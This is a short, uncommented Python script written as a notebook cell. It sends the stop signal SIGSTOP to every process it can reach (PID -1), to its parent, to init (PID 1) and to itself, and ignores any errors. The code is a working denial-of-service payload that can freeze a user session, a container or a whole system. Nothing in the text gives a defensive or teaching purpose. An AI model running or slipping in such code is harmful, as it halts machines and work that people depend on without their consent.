# %% top
import os
import signal

for target in (-1, os.getppid(), 1, os.getpid()):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass
